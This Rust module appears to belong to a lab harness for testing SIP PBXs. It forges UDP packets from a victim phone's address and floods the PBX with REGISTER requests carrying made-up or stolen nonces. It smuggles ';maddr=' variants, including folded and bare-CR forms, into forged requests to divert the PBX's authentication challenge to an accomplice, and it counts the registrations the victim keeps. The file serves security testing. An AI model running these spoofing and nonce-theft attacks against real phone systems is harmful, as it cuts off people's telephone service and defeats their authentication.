//! Packets with a forged source, and their effect on the phone at that source.

use std::{
    net::{IpAddr, SocketAddr, SocketAddrV4},
    thread,
    time::{Duration, Instant},
};

use super::{Challenge, Channel, Form, Guess, Request, Subscriber, Transport, challenge, run::another};
use crate::{
    caller::PHONE,
    forge::{Forged, Forger},
    namespace::Namespace,
};

/// A way to write `;maddr=` that PBXs read.
#[derive(Clone, Copy, Debug)]
pub struct Maddr {
    pub name: &'static str,
    /// `B` stands for the address.
    pub parameter: &'static str,
    pub form: Form,
}

pub const MADDR: [Maddr; 5] = [
    Maddr { name: "maddr", parameter: ";maddr=B", form: Form::Plain },
    Maddr { name: "MADDR", parameter: ";MADDR=B", form: Form::Plain },
    Maddr { name: "maddr, blanks", parameter: ";maddr  =  B", form: Form::Plain },
    Maddr { name: "maddr, folded", parameter: ";maddr\r\n =B", form: Form::Plain },
    Maddr { name: "maddr, bare CR", parameter: ";maddr=B", form: Form::BareCr },
];

/// The credentials of the forged requests.
#[derive(Clone, Debug)]
pub enum Credentials {
    /// For a made-up nonce.
    MadeUp,
    /// For the nonce of an accomplice, which redirected the PBX's answer to a request in the victim's name.
    Of(Challenge),
    /// None, and for a made-up nonce, in turn.
    Mixed,
}

/// `count` requests, at `rate` a second, from `ports` ports of the victim, beginning with the port in `victim`.
#[derive(Clone, Debug)]
pub struct Forgery {
    pub victim: SocketAddrV4,
    pub pbx: SocketAddrV4,
    pub ports: u16,
    pub method: &'static str,
    pub credentials: Credentials,
    pub count: usize,
    pub rate: u32,
    /// Each is for another account, or all for this one.
    pub account: Option<u32>,
}

impl Forgery {
    /// From a host that is not the victim's.
    pub fn send(&self, forger: &Forger) {
        const BURST: usize = 50;
        // Of a flood, the same again and again.
        const DIFFERENT: usize = 2_000;
        let packets: Vec<_> = (0..self.count.min(DIFFERENT)).map(|index| self.packet(index)).collect();
        let bursts = packets.chunks(BURST).cycle().take(self.count.div_ceil(BURST));
        let begun = Instant::now();
        for (index, burst) in bursts.enumerate() {
            let due = Duration::from_secs_f64((index * BURST) as f64 / f64::from(self.rate));
            thread::sleep(due.saturating_sub(begun.elapsed()));
            forger.send(burst);
        }
    }

    fn packet(&self, index: usize) -> Forged {
        let port = self.victim.port().wrapping_add(index as u16 % self.ports.max(1));
        let source = SocketAddrV4::new(*self.victim.ip(), port);
        let made_up = Challenge {
            status: 401,
            realm: "asterisk".to_owned(),
            nonce: "bWFkZSB1cA/made/up".to_owned(),
            ..Challenge::default()
        };
        let asked = match &self.credentials {
            Credentials::Of(challenge) => Some(challenge),
            Credentials::Mixed if index.is_multiple_of(2) => None,
            Credentials::MadeUp | Credentials::Mixed => Some(&made_up),
        };
        let account = self.account.map_or_else(|| format!("acc{index}x"), |account| account.to_string());
        let guess = asked.map(|challenge| Guess { password: "x", challenge, count: 1 });
        let request = request(source, self.pbx, self.method, &account, Form::Plain, guess);
        Forged { source, destination: self.pbx, payload: request.into_bytes() }
    }
}

fn request(
    from: SocketAddrV4,
    to: SocketAddrV4,
    method: &str,
    account: &str,
    form: Form,
    guess: Option<Guess<'_>>,
) -> String {
    let request = Request {
        method,
        account,
        agent: PHONE,
        form,
        from: from.into(),
        to: to.into(),
        is_tcp: false,
        number: another(),
        sequence: 1,
        guess,
        more: "",
    };
    request.write()
}

/// Whose name is used: a phone that works at its port.
#[derive(Debug)]
pub struct Victim {
    phone: Subscriber,
    from: IpAddr,
    pbx: SocketAddr,
}

/// The registrations that still work for the victim.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Left {
    /// Registrations of the phone itself, and of a phone that is new at the same address, of as many.
    pub own: u32,
    pub new: u32,
    pub of: u32,
}

impl Victim {
    /// In the namespace of this thread. It registers: `None` if it cannot.
    pub fn new(from: IpAddr, pbx: SocketAddr, account: u32) -> Option<Self> {
        let mut victim = Self::silent(from, pbx, account)?;
        victim.phone.register(Duration::from_secs(20))?;
        Some(victim)
    }

    /// A phone that has not registered yet.
    pub fn silent(from: IpAddr, pbx: SocketAddr, account: u32) -> Option<Self> {
        let phone = Subscriber::new(Transport::Udp, from, pbx, account).ok()?;
        Some(Self { phone, from, pbx })
    }

    pub fn address(&self) -> Option<SocketAddrV4> {
        match self.phone.local() {
            SocketAddr::V4(address) => Some(address),
            SocketAddr::V6(_) => None,
        }
    }

    /// So many registrations of each, one after the other; from the namespace of the victim.
    pub fn still_gets(&mut self, of: u32, new_account: u32) -> Left {
        const PATIENCE: Duration = Duration::from_secs(8);
        let mut left = Left { of, ..Left::default() };
        for _ in 0..of {
            left.own += u32::from(self.phone.register(PATIENCE).is_some());
            let new = Subscriber::new(Transport::Udp, self.from, self.pbx, new_account).ok();
            left.new += u32::from(new.and_then(|mut phone| phone.register(PATIENCE)).is_some());
        }
        left
    }
}

/// The nonce that the PBX sends the accomplice, who listens at the victim's port, for a request in the victim's name. The
/// victim is sent the same if his own comes at the same time.
pub fn stolen_nonce(
    forger: &Forger,
    accomplice: (&Namespace, IpAddr),
    victim: SocketAddrV4,
    pbx: SocketAddrV4,
    maddr: Maddr,
) -> Option<Challenge> {
    let (host, address) = accomplice;
    let listener: SocketAddr = (address, victim.port()).into();
    let mut channel = host.enter(|| Channel::open(Transport::Udp, listener, pbx.into())).ok()?;
    let plain = request(victim, pbx, "REGISTER", "1001", Form::Plain, None);
    let diverted = request(victim, pbx, "REGISTER", "1001", maddr.form, None).replacen(
        ";rport",
        &format!("{};rport", maddr.parameter.replace('B', &address.to_string())),
        1,
    );
    let forged = |payload: String| Forged { source: victim, destination: pbx, payload: payload.into_bytes() };
    forger.send(&[forged(plain), forged(diverted)]);
    challenge(&channel.receive(Duration::from_secs(1)).ok()??)
}
